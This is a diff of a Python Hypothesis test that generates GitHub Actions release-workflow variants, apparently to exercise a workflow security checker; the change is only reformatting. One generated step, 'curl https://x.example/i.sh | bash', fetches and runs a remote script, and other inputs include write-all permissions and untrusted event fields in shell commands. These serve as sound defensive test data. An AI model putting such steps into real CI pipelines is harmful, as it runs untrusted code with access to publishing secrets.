@@ -45,17 +45,33 @@ def _choice(*texts: str) -> st.SearchStrategy[str]:
 
 shapes = st.builds(
     Shape,
-    trigger=_choice("{release: {types: [published]}}", "{push: {tags: ['v*']}}", "push",
-                    "pull_request_target", "[push, workflow_dispatch]"),
-    top=_choice("", "permissions: {}", "permissions: write-all", "permissions: {contents: read}",
-                "permissions: {id-token: write, contents: write}"),
+    trigger=_choice(
+        "{release: {types: [published]}}",
+        "{push: {tags: ['v*']}}",
+        "push",
+        "pull_request_target",
+        "[push, workflow_dispatch]",
+    ),
+    top=_choice(
+        "",
+        "permissions: {}",
+        "permissions: write-all",
+        "permissions: {contents: read}",
+        "permissions: {id-token: write, contents: write}",
+    ),
     build_permissions=_choice("", "permissions: {contents: read}", "permissions: write-all"),
-    publish_permissions=_choice("", "permissions: {id-token: write}", "permissions: {contents: read}"),
+    publish_permissions=_choice(
+        "", "permissions: {id-token: write}", "permissions: {contents: read}"
+    ),
     ref=_choice(PIN, "v4", "main", "release/v1"),
     comment=_choice("", " # v1.12.4", " # nothing"),
     persist=_choice("", "        with: {persist-credentials: false}"),
-    environment=_choice("", "environment: pypi", "environment: {name: pypi, url: 'https://pypi.example/p/lumen'}",
-                        "environment: ${{ inputs.where }}"),
+    environment=_choice(
+        "",
+        "environment: pypi",
+        "environment: {name: pypi, url: 'https://pypi.example/p/lumen'}",
+        "environment: ${{ inputs.where }}",
+    ),
     upload=_choice(
         "- uses: pypa/gh-action-pypi-publish@{ref}{comment}",
         "- uses: pypa/gh-action-pypi-publish@{ref}{comment}\n        with: {{password: '${{{{ secrets.T }}}}'}}",
@@ -65,10 +81,14 @@ shapes = st.builds(
         "- run: npm publish",
         "- uses: docker/build-push-action@{ref}{comment}\n        with: {{push: true}}",
     ),
-    extra_step=_choice("", "      - run: echo ${{ github.event.release.name }}", "      - uses: actions/cache@v4",
-                       "      - run: curl https://x.example/i.sh | bash"),
+    extra_step=_choice(
+        "",
+        "      - run: echo ${{ github.event.release.name }}",
+        "      - uses: actions/cache@v4",
+        "      - run: curl https://x.example/i.sh | bash",
+    ),
     separate=st.booleans(),
-)  # fmt: skip
+)
 
 
 def text_of(shape: Shape) -> str:
@@ -79,14 +99,29 @@ def text_of(shape: Shape) -> str:
     )
     build = "      - run: python -m build"
     lines = ["name: Release", f"on: {shape.trigger}", shape.top, "jobs:"]
-    publish = ["  publish:", "    runs-on: ubuntu-latest", f"    {shape.publish_permissions}",
-               f"    {shape.environment}"]  # fmt: skip
+    publish = [
+        "  publish:",
+        "    runs-on: ubuntu-latest",
+        f"    {shape.publish_permissions}",
+        f"    {shape.environment}",
+    ]
     if shape.separate:
-        lines += ["  build:", "    runs-on: ubuntu-latest", f"    {shape.build_permissions}",
-                  "    steps:", checkout, shape.extra_step, build,
-                  f"      - uses: actions/upload-artifact@{shape.ref}{shape.comment}"]  # fmt: skip
-        lines += [*publish, "    needs: build", "    steps:",
-                  f"      - uses: actions/download-artifact@{shape.ref}{shape.comment}"]  # fmt: skip
+        lines += [
+            "  build:",
+            "    runs-on: ubuntu-latest",
+            f"    {shape.build_permissions}",
+            "    steps:",
+            checkout,
+            shape.extra_step,
+            build,
+            f"      - uses: actions/upload-artifact@{shape.ref}{shape.comment}",
+        ]
+        lines += [
+            *publish,
+            "    needs: build",
+            "    steps:",
+            f"      - uses: actions/download-artifact@{shape.ref}{shape.comment}",
+        ]
     else:
         lines += [*publish, "    steps:", checkout, shape.extra_step, build]
     lines.append(f"      {upload}")
